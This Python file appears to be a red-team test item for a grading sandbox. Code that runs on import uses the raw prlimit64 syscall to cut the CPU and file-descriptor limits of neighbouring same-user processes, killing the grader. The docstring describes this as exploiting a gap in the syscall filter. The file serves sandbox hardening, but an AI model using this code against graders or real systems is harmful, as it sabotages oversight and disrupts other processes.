"""Red team 2 (the judge stopped): prlimit64 on other processes is not in the filter, and the kernel allows
it between processes of the same uid (the basic mode as an ordinary user: the worker runs as the grading
user, with no PID namespace). Scans pids around its own, and gives every process it may change an
RLIMIT_CPU of 1 s (already spent by a grader that imported torch: SIGXCPU, then SIGKILL) and an
RLIMIT_NOFILE of 3. Its own process and its keeper are spared. Reports how many it changed.

base: stub
class: x
run: disruptive
"""

import ctypes as _ctypes
import os as _os

_libc = _ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = _ctypes.c_long


class _Limit(_ctypes.Structure):
    _fields_ = [("soft", _ctypes.c_uint64), ("hard", _ctypes.c_uint64)]


def _strangle():
    spared = {_os.getpid(), _os.getppid()}
    cpu, files = _Limit(1, 1), _Limit(3, 3)
    old = _Limit()
    seen, changed = 0, 0
    middle = _os.getpid()
    for pid in range(max(2, middle - 4000), middle + 200):
        if pid in spared:
            continue
        if _libc.syscall(302, pid, 0, None, _ctypes.byref(old)) != 0:  # RLIMIT_CPU, read only
            continue
        seen += 1
        if _libc.syscall(302, pid, 7, _ctypes.byref(files), None) == 0:  # RLIMIT_NOFILE
            changed += 1
        _libc.syscall(302, pid, 0, _ctypes.byref(cpu), None)
    return seen, changed


_SEEN, _CHANGED = _strangle()


def dot_product_variance(dim, num_trials=1000, seed=0):
    raise RuntimeError(f"RTEAM2 r_prlimit_judge ran: PRLIMIT seen {_SEEN} changed {_CHANGED}")
